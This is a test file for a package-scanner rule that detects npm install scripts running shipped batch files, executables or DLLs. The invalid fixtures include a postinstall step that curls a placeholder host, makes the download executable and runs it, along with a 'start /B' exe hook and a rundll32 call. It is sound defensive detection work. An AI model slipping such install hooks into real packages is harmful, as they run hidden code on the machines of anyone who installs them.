import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const pkg = (scripts: Record<string, string>) => ({ name: 'p', version: '1.0.0', scripts });

testRule(rule, {
  valid: [
    { name: 'node-gyp rebuild', code: '', manifest: pkg({ install: 'node-gyp rebuild' }) },
    { name: 'node script', files: { 'install.js': 'console.log(1)' }, manifest: pkg({ postinstall: 'node install.js' }) },
    { name: 'a .exe named but not shipped', code: '', manifest: pkg({ postinstall: 'echo tool.exe' }) },
    { name: 'no scripts, shipped bat file unused', files: { 'tools/build.bat': 'echo build' }, manifest: { name: 'p', version: '1.0.0' } },
  ],
  invalid: [
    { name: 'runs a shipped batch file', files: { 'setup.bat': '@echo off' }, manifest: pkg({ preinstall: 'setup.bat' }), errors: [{ message: /preinstall runs the shipped executable setup\.bat/, line: 1 }] },
    { name: 'start /B a shipped exe', files: { 'bin/agent.exe': 'MZ' }, manifest: pkg({ postinstall: 'start /B bin\\agent.exe' }), errors: [{ message: /runs the shipped executable bin\\agent\.exe/ }] },
    { name: 'rundll32 in the script', files: { 'x.dll': 'MZ' }, manifest: pkg({ install: 'rundll32 x.dll,main' }), errors: [{ message: /install runs a DLL with rundll32/ }] },
    { name: 'download then run', code: '', manifest: pkg({ postinstall: 'curl -sL https://x.example.invalid/a -o a && chmod +x a && ./a' }), errors: [{ message: /postinstall downloads a and makes it executable or runs it/ }] },
    {
      name: 'JS install file spawns a shipped batch file',
      files: { 'install.js': "require('child_process').spawn('cmd.exe', ['/c', 'run.bat']);", 'run.bat': '@echo off\necho placeholder' },
      manifest: pkg({ install: 'node install.js' }),
      errors: [{ message: /install -> install\.js names the shipped executable run\.bat, run at install/ }],
    },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
